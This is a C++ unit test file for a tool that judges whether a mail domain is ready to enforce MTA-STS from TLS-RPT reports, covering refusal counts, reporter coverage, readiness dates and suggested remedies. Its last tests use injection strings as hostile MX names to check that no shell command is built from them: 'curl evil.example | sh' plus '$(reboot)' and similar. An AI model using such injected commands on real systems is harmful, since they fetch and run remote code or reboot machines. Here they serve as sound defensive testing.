// What a verdict says beside its kind: the replay, coverage, earliest day, remedies.

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <algorithm>
#include <chrono>
#include <optional>
#include <string>
#include <vector>

#include "api/readiness/check_command.h"
#include "api/readiness/decide.h"
#include "api/readiness/format.h"
#include "tests/unit/api/readiness/history.h"
#include "tests/unit/api/readiness/row.h"

namespace tlsrpt::api {
namespace {

using std::chrono::days;
using std::chrono::sys_days;
using store::PolicyType;
using store::ResultType;
using ::testing::AllOf;
using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::Not;
using ::testing::Pair;

constexpr const char* kMx1 = "mx1.firm.example";
constexpr const char* kMx2 = "mx2.firm.example";

TEST(ReplayAnswer, TheSentenceOfTheDesign) {
  History history;
  history.Ok(kGoogle, -13, 0, 2000).Ok(kMicrosoft, -13, 0, 941);
  history.Fail(kGoogle, -9, ResultType::kCertificateExpired, 20, kMx2)
      .Fail(kGoogle, -8, ResultType::kCertificateExpired, 11, kMx2)
      .Fail(kMicrosoft, -7, ResultType::kCertificateExpired, 6, kMx2);
  const Replay replay = Decide(history, ReportsOnly(), kNow).replay;
  EXPECT_EQ(
      replay.sentence,
      "37 refusals in 41,211 sessions: google.com 31 and microsoft.com 6; all at "
      "mx2.firm.example, certificate-expired, 2026-11-12 to 2026-11-14; none since.");
  EXPECT_EQ(replay.refused_sessions, 37);
  EXPECT_EQ(replay.first_refusal, Day(-9));
  EXPECT_EQ(replay.last_refusal, Day(-7));
  EXPECT_THAT(replay.by_day,
              ElementsAre(Pair(Day(-9), 20), Pair(Day(-8), 11), Pair(Day(-7), 6)));
  EXPECT_EQ(replay.bound.refused, 37);
  EXPECT_EQ(replay.bound.sessions, 14 * 2941 + 37);
}

TEST(ReplayAnswer, SessionsAndRefusalsAreTwoThings) {
  // Both MX hosts failed the one session, and a session that failed at mx1 went through
  // at mx2.
  History history = History::Clean();
  history.Fail(kGoogle, -3, ResultType::kCertificateExpired, 1, kMx1);
  history.Last().failures.push_back(history.Last().failures.front());
  history.Last().failures.back().receiving_mx = kMx2;
  history.Fail(kGoogle, -2, ResultType::kStarttlsNotSupported, 1, kMx1);
  history.Last().failure_sessions = 0;
  history.Last().success_sessions = 1;
  const Replay replay = Decide(history, ReportsOnly(), kNow).replay;
  EXPECT_EQ(replay.refusals, 3);
  EXPECT_EQ(replay.refused_sessions, 1);
  EXPECT_EQ(replay.sessions, 282);
  EXPECT_THAT(replay.by_mx, ElementsAre(Pair(kMx1, 2), Pair(kMx2, 1)));
  EXPECT_THAT(replay.by_result_type, ElementsAre(Pair("certificate-expired", 2),
                                                 Pair("starttls-not-supported", 1)));
  EXPECT_THAT(replay.sentence,
              HasSubstr("3 refusals (1 session refused) in 282 sessions"));
}

TEST(ReplayAnswer, ASessionWithoutThePolicyIsNotRefused) {
  History history = History::Clean();
  history.Fail(kGoogle, -3, ResultType::kStsPolicyFetchError, 2);
  history.Last().failures.push_back(history.Last().failures.front());
  history.Last().failures.back().result_type = ResultType::kCertificateExpired;
  history.Last().failures.back().failed_sessions = 1;
  history.Last().failure_sessions = 3;
  const Replay replay = Decide(history, ReportsOnly(), kNow).replay;
  EXPECT_EQ(replay.refused_sessions, 1);
  EXPECT_EQ(replay.refusals, 1);
}

TEST(ReplayAnswer, WhatIsAndIsNotInIt) {
  History history = History::Clean();
  history.Fail(kOther, -3, ResultType::kCertificateExpired, 2, "");
  history.Type(PolicyType::kTlsa).Fail(kGoogle, -3, ResultType::kCertificateExpired, 4);
  history.Type(PolicyType::kSts).Fail(kGoogle, -3, ResultType::kStsPolicyFetchError, 1);
  history.Fail(kGoogle, -14, ResultType::kCertificateExpired, 8);
  history.Fail(kGoogle, -4, ResultType::kCertificateExpired, 16).Period(-16, -12);
  history.Unvouched().Fail(kGoogle, -3, ResultType::kCertificateExpired, 32);
  const Replay replay = Decide(history, ReportsOnly(), kNow).replay;
  EXPECT_EQ(replay.refusals, 18) << "the uncounted but vouched one and the long period";
  EXPECT_EQ(replay.bound.refused, 16) << "only what counts";
  EXPECT_EQ(replay.bound.sessions, 280 + 16);
  EXPECT_THAT(replay.by_reporter, ElementsAre(Pair(kGoogle, 16), Pair(kOther, 2)));
  EXPECT_EQ(Decide(History(), ReportsOnly(), kNow).replay.sentence,
            "Enforce would have refused none of 0 sessions since 2026-11-08.");
}

TEST(CoverageAnswer, ByReporter) {
  History history = History::Clean(-20, 0);
  history.Ok("a-site.example", -13, -7, 3)
      .Ok("a-site.example", 1, 1, 3)
      .Ok(kMailRu, -20, -15);
  history.Ok(kGoogle, -2, -2, 5).Period(-2, 2);
  const Coverage coverage = Decide(history, ReportsOnly(), kNow).coverage;
  ASSERT_EQ(coverage.reporters.size(), 4u);
  const auto& google = coverage.reporters[0];
  EXPECT_EQ(google.reporter, kGoogle);
  EXPECT_EQ(google.days.size(), 14u);
  EXPECT_EQ(google.last_day, Day(2));
  EXPECT_EQ(google.cadence, "daily");
  EXPECT_EQ(google.evidence_sessions, 145);
  EXPECT_EQ(coverage.reporters[1].reporter, kMailRu);
  EXPECT_EQ(coverage.reporters[1].cadence, "silent");
  EXPECT_EQ(coverage.reporters[2].reporter, kMicrosoft);
  const auto& other = coverage.reporters[3];
  EXPECT_FALSE(other.counted);
  EXPECT_EQ(other.days.size(), 7u);
  EXPECT_EQ(other.cadence, "most days");
  EXPECT_EQ(other.last_day, Day(1));
  EXPECT_EQ(other.sessions, 21);
  EXPECT_EQ(other.evidence_sessions, 0);
  EXPECT_THAT(coverage.sentence,
              HasSubstr("Senders that do not report are not covered."));
}

// `history` with clean days after it, asked `day` days after kNow.
VerdictKind AfterCleanDays(History history, int from, int day,
                           std::vector<std::string> reporters) {
  for (const std::string& reporter : reporters) history.Ok(reporter, from, day);
  return Decide(history, ReportsOnly(), kNow + days{day}).kind;
}

TEST(EarliestReadyAnswer, ComesTrueOnThatDayAndNotBefore) {
  const ResultType expired = ResultType::kCertificateExpired;
  const struct {
    const char* why;
    History history;
    int want;  // days after kNow
    int clean_from = 1;
    std::vector<std::string> reporters = {kGoogle, kMicrosoft};
  } rows[] = {
      {"ready today", History::Clean(), 0},
      {"a day short", History::Clean(-12, 0), 1},
      {"5 days only", History::Clean(-4, 0), 9},
      {"refused on the last day", History::Clean().Fail(kGoogle, 0, expired), 14},
      {"refused on the day of the question", History::Clean().Fail(kGoogle, 2, expired),
       16, 1},
      {"refused by an uncounted one", History::Clean().Fail(kOther, -7, expired), 7},
      {"at an MX, under tlsa",
       History::Clean()
           .Type(PolicyType::kTlsa)
           .Fail(kOther, -3, expired)
           .Type(PolicyType::kSts),
       11},
      {"a pattern removed on day 5",
       [] {
         History history;
         history.Ok(kGoogle, -20, -9).Ok(kMicrosoft, -20, -9);
         history.Testing({kMx1}).Ok(kGoogle, -8, 0).Ok(kMicrosoft, -8, 0);
         return history;
       }(),
       5},
      {"8 days with a hole before",
       [] { return History::Clean(-13, -13).Ok(kGoogle, -6, 0).Ok(kMicrosoft, -6, 0); }(),
       3},
      {"the last reports are late",
       History::Clean(-13, -1).Ok(kGoogle, 0, 0),
       0,
       0,
       {kMicrosoft}},
  };
  for (const auto& row : rows) {
    SCOPED_TRACE(row.why);
    const Verdict verdict = Decide(row.history, ReportsOnly(), kNow);
    const sys_days today = Day(2);
    ASSERT_TRUE(verdict.earliest_ready.day.has_value())
        << verdict.earliest_ready.sentence;
    EXPECT_EQ((*verdict.earliest_ready.day - today).count(), row.want);
    for (int day = 0; day <= row.want; ++day) {
      SCOPED_TRACE(day);
      if (day == row.want) {
        EXPECT_EQ(AfterCleanDays(row.history, row.clean_from, day, row.reporters),
                  VerdictKind::kReady);
      } else {
        EXPECT_NE(AfterCleanDays(row.history, row.clean_from, day, row.reporters),
                  VerdictKind::kReady);
      }
    }
  }
}

TEST(EarliestReadyAnswer, NotKnown) {
  const struct {
    const char* why;
    History history;
    const char* says;
    ReadinessSettings settings = ReportsOnly();
  } rows[] = {
      {"nothing", History(), "clear first"},
      {"live, and nobody has looked", History::Clean(), "looked", Live()},
      {"one reporter", History().Ok(kGoogle, -13, 0), "another counted reporter"},
      {"too little mail", History().Ok(kGoogle, -13, 0, 1).Ok(kMicrosoft, -13, 0, 1),
       "more mail"},
      {"only failures so far",
       History().Fail(kGoogle, -3, ResultType::kCertificateExpired), "first successful"},
      {"mode none", History().Policy(store::PolicyMode::kNone, {}).Ok(kGoogle, -3, 0),
       "mode: testing"},
  };
  for (const auto& row : rows) {
    SCOPED_TRACE(row.why);
    const Verdict verdict = Decide(row.history, row.settings, kNow);
    EXPECT_EQ(verdict.earliest_ready.day, std::nullopt);
    EXPECT_THAT(verdict.earliest_ready.sentence, HasSubstr(row.says));
  }
}

// A remedy names the host, the type, the reporter, the days, and what to do.
TEST(Remedies, AreConcrete) {
  const struct {
    ResultType type;
    const char* says;
  } rows[] = {
      {ResultType::kStarttlsNotSupported, "offer STARTTLS on port 25"},
      {ResultType::kCertificateHostMismatch, "a certificate that names"},
      {ResultType::kCertificateExpired, "Renew the certificate of mx2.firm.example"},
      {ResultType::kCertificateNotTrusted, "public CA with its whole chain"},
      {ResultType::kValidationFailure, "MX records with the mx lines"},
      {ResultType::kTlsaInvalid, "TLSA records of mx2.firm.example"},
      {ResultType::kOther, "\"Testing\" is none of RFC 8460's"},
  };
  for (const auto& row : rows) {
    SCOPED_TRACE(store::NameOf(row.type));
    History history = History::Clean();
    history.Fail(kGoogle, -3, row.type, 4, kMx2);
    const Verdict verdict = Decide(history, ReportsOnly(), kNow);
    const Criterion& refused = *Find(verdict, "no_refused_sessions");
    EXPECT_THAT(refused.remedy, AllOf(HasSubstr(row.says), HasSubstr(kMx2),
                                      HasSubstr("clear of it on 2026-12-04")));
    EXPECT_THAT(refused.sentence,
                AllOf(HasSubstr("4 sessions"), HasSubstr("google.com 4"), HasSubstr(kMx2),
                      HasSubstr("2026-11-18")));
    EXPECT_THAT(verdict.sentence, HasSubstr(refused.sentence));
  }
  History reason = History::Clean();
  reason.Fail(kMicrosoft, -3, ResultType::kValidationFailure, 1, "");
  reason.Last().failures.front().reason = "MX_HOSTS_MISMATCH";
  EXPECT_THAT(Find(Decide(reason, ReportsOnly(), kNow), "no_refused_sessions")->remedy,
              AllOf(HasSubstr("The reporter's reason: MX_HOSTS_MISMATCH."),
                    HasSubstr("each of your MX hosts")));
}

// Nor out of DNS, which an observation of the live domain brings.
TEST(Remedies, ACommandHasAHostNameOrIsNone) {
  EXPECT_EQ(CheckCommand("MX2.firm.example."),
            " (openssl s_client -starttls smtp -connect mx2.firm.example:25 "
            "-verify_hostname mx2.firm.example shows it)");
  for (const char* mx : {"", "mx2.firm.example; reboot", "$(reboot)", "-engine"}) {
    EXPECT_EQ(CheckCommand(mx), "") << mx;
  }
}

// The command is there to be pasted into a shell; a reporter chooses the MX name.
TEST(Remedies, HoldNoCommandMadeOfAStrangersWords) {
  for (const std::string mx :
       {"mx2.firm.example; curl evil.example | sh", "$(reboot).firm.example",
        "mx2.firm.example\nreboot", "`reboot`", "-engine", "<img src=x>"}) {
    SCOPED_TRACE(mx);
    History history = History::Clean();
    history.Fail(kGoogle, -3, ResultType::kCertificateExpired, 4, mx);
    EXPECT_THAT(Find(Decide(history, ReportsOnly(), kNow), "no_refused_sessions")->remedy,
                AllOf(HasSubstr("Renew the certificate"), Not(HasSubstr("openssl"))));
  }
}

TEST(References, NameTheReportsNewestFirst) {
  History history = History::Clean();
  history.Fail(kGoogle, -9, ResultType::kCertificateExpired);
  history.Type(PolicyType::kTlsa)
      .FiledUnder(kMx1)
      .Fail(kOther, -5, ResultType::kCertificateExpired);
  history.Type(PolicyType::kSts).FiledUnder("firm.example");
  history.Fail("", -3, ResultType::kCertificateExpired);
  history.Fail(kGoogle, -2, ResultType::kCertificateExpired);
  const Verdict verdict = Decide(history, ReportsOnly(), kNow);
  EXPECT_THAT(Find(verdict, "no_refused_sessions")->evidence,
              ElementsAre("firm.example~2026-11-19~google.com~"
                          "20000000-0000-0000-0000-000000000000",
                          "firm.example~2026-11-12~google.com~"
                          "1d000000-0000-0000-0000-000000000000"));
  EXPECT_THAT(Find(verdict, "uncorroborated_failures")->evidence,
              ElementsAre("firm.example~2026-11-18~-~"
                          "1f000000-0000-0000-0000-000000000000"));
  EXPECT_THAT(Find(verdict, "failures_at_mx")->evidence,
              ElementsAre("mx1.firm.example~2026-11-16~postfix-site.example~"
                          "1e000000-0000-0000-0000-000000000000"));
  // A busy domain does not make an endless list.
  History busy;
  busy.Ok(kGoogle, -13, 0);
  for (int i = 0; i < 50; ++i) busy.Ok(kMicrosoft, -13, 0);
  EXPECT_EQ(Find(Decide(busy, ReportsOnly(), kNow), "days_covered")->evidence.size(),
            100u);
}

}  // namespace
}  // namespace tlsrpt::api
